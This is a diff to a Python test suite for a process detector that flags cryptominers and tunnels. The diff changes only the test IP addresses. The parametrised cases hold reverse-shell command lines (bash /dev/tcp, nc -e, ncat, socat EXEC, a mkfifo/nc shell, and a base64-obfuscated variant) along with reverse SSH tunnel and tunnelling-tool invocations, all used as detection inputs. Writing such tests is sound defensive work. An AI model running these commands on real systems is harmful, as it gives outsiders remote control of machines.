@@ -108,7 +108,7 @@ def test_base64_encoded_indicators(det: ProcessDetector) -> None:
     found = run(det, cmd("sh", "-c", f"echo {hidden} | base64 -d | sh", exe="/usr/bin/dash"))
     assert found["miner.cmdline.stratum_url"].evidence["encoding"] == "base64"
     assert "miner.cmdline.miner_flag" in found
-    shell = base64.b64encode(b"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1").decode()
+    shell = base64.b64encode(b"bash -i >& /dev/tcp/198.51.100.5/4444 0>&1").decode()
     found = run(det, cmd("bash", "-c", f"{{echo,{shell}}}|{{base64,-d}}|bash"))
     assert found["tunnel.reverse_shell"].evidence["encoding"] == "base64"
 
@@ -211,19 +211,19 @@ def test_legitimate_renames_are_quiet(det: ProcessDetector, p: Proc) -> None:
     ("args", "rule", "severity"),
     [
         (
-            ("ssh", "-N", "-R", "2222:localhost:22", "user@203.0.113.5"),
+            ("ssh", "-N", "-R", "2222:localhost:22", "user@198.51.100.5"),
             "tunnel.ssh_reverse",
             Severity.HIGH,
         ),
-        (("ssh", "-fNR2222:localhost:22", "203.0.113.5"), "tunnel.ssh_reverse", Severity.HIGH),
+        (("ssh", "-fNR2222:localhost:22", "198.51.100.5"), "tunnel.ssh_reverse", Severity.HIGH),
         (
-            ("ssh", "203.0.113.5", "-o", "RemoteForward=2222 localhost:22"),
+            ("ssh", "198.51.100.5", "-o", "RemoteForward=2222 localhost:22"),
             "tunnel.ssh_reverse",
             Severity.HIGH,
         ),
         (("ssh", "-R", "2222:localhost:22", "localhost"), "tunnel.ssh_reverse", Severity.LOW),
-        (("ssh", "-D", "1080", "-N", "u@203.0.113.5"), "tunnel.ssh_socks", Severity.MEDIUM),
-        (("ssh", "-w", "0:0", "root@203.0.113.5"), "tunnel.ssh_vpn", Severity.HIGH),
+        (("ssh", "-D", "1080", "-N", "u@198.51.100.5"), "tunnel.ssh_socks", Severity.MEDIUM),
+        (("ssh", "-w", "0:0", "root@198.51.100.5"), "tunnel.ssh_vpn", Severity.HIGH),
         (
             ("ssh", "-L", "5432:10.0.0.9:5432", "bastion.example.com"),
             "tunnel.ssh_forward",
@@ -235,7 +235,7 @@ def test_legitimate_renames_are_quiet(det: ProcessDetector, p: Proc) -> None:
             Severity.MEDIUM,
         ),
         (
-            ("autossh", "-M", "0", "-N", "-R", "9000:localhost:22", "u@203.0.113.5"),
+            ("autossh", "-M", "0", "-N", "-R", "9000:localhost:22", "u@198.51.100.5"),
             "tunnel.ssh_reverse",
             Severity.HIGH,
         ),
@@ -249,7 +249,7 @@ def test_ssh_tunnels(
 
 
 def test_ssh_by_argv0_only_and_local_forward(det: ProcessDetector) -> None:
-    fake = cmd("ssh", "-N", "-R", "2222:localhost:22", "u@203.0.113.5", exe="/tmp/t/sleep")
+    fake = cmd("ssh", "-N", "-R", "2222:localhost:22", "u@198.51.100.5", exe="/tmp/t/sleep")
     assert "tunnel.ssh_reverse" in run(det, fake)
     assert run(det, cmd("ssh", "-N", "-L", "8080:localhost:80", "127.0.0.1")) == {}
     assert run(det, cmd("ssh", "-L", "/tmp/s.sock:/run/docker.sock", "h.example.com")) == {}
@@ -258,26 +258,26 @@ def test_ssh_by_argv0_only_and_local_forward(det: ProcessDetector) -> None:
 @pytest.mark.parametrize(
     ("args", "rule", "severity"),
     [
-        (("chisel", "client", "203.0.113.5:8000", "R:socks"), "tunnel.tool", Severity.HIGH),
+        (("chisel", "client", "198.51.100.5:8000", "R:socks"), "tunnel.tool", Severity.HIGH),
         (("cloudflared", "tunnel", "--url", "http://localhost:8000"), "tunnel.tool", Severity.HIGH),
         (("cloudflared", "access", "login"), "tunnel.tool", Severity.MEDIUM),
         (("frpc", "-c", "frpc.toml"), "tunnel.tool", Severity.HIGH),
         (
-            ("socat", "TCP:203.0.113.5:4444", "EXEC:/bin/bash,pty,stderr"),
+            ("socat", "TCP:198.51.100.5:4444", "EXEC:/bin/bash,pty,stderr"),
             "tunnel.reverse_shell",
             Severity.HIGH,
         ),
         (("socat", "TCP4-LISTEN:4444,fork", "system:sh"), "tunnel.reverse_shell", Severity.HIGH),
         (
-            ("socat", "TCP-LISTEN:8080,fork", "TCP:203.0.113.5:80"),
+            ("socat", "TCP-LISTEN:8080,fork", "TCP:198.51.100.5:80"),
             "tunnel.socat_relay",
             Severity.MEDIUM,
         ),
         (("socat", "TCP-LISTEN:8080,fork", "TCP:localhost:80"), "tunnel.socat_relay", Severity.LOW),
-        (("nc", "-e", "/bin/sh", "203.0.113.5", "4444"), "tunnel.reverse_shell", Severity.HIGH),
-        (("ncat", "--sh-exec", "sh", "203.0.113.5", "4444"), "tunnel.reverse_shell", Severity.HIGH),
+        (("nc", "-e", "/bin/sh", "198.51.100.5", "4444"), "tunnel.reverse_shell", Severity.HIGH),
+        (("ncat", "--sh-exec", "sh", "198.51.100.5", "4444"), "tunnel.reverse_shell", Severity.HIGH),
         (
-            ("bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
+            ("bash", "-c", "bash -i >& /dev/tcp/198.51.100.5/4444 0>&1"),
             "tunnel.reverse_shell",
             Severity.HIGH,
         ),
@@ -285,7 +285,7 @@ def test_ssh_by_argv0_only_and_local_forward(det: ProcessDetector) -> None:
             (
                 "sh",
                 "-c",
-                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
+                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.5 4444 >/tmp/f",
             ),
             "tunnel.reverse_shell",
             Severity.HIGH,
@@ -315,7 +315,7 @@ def test_tools_shells_and_evasion(
 def test_runbook_never_silences_process_rules() -> None:
     det = ProcessDetector(context("[[runbook.jobs]]\nname = 'bench'\nexe = '*'\nuser = 'root'\n"))
     assert "miner.process_name" in run(det, cmd("/opt/x/xmrig", exe="/opt/x/xmrig"))
-    assert "tunnel.ssh_reverse" in run(det, cmd("ssh", "-R", "2222:localhost:22", "203.0.113.5"))
+    assert "tunnel.ssh_reverse" in run(det, cmd("ssh", "-R", "2222:localhost:22", "198.51.100.5"))
 
 
 def test_base64_decoys_do_not_hide_the_payload(det: ProcessDetector) -> None:
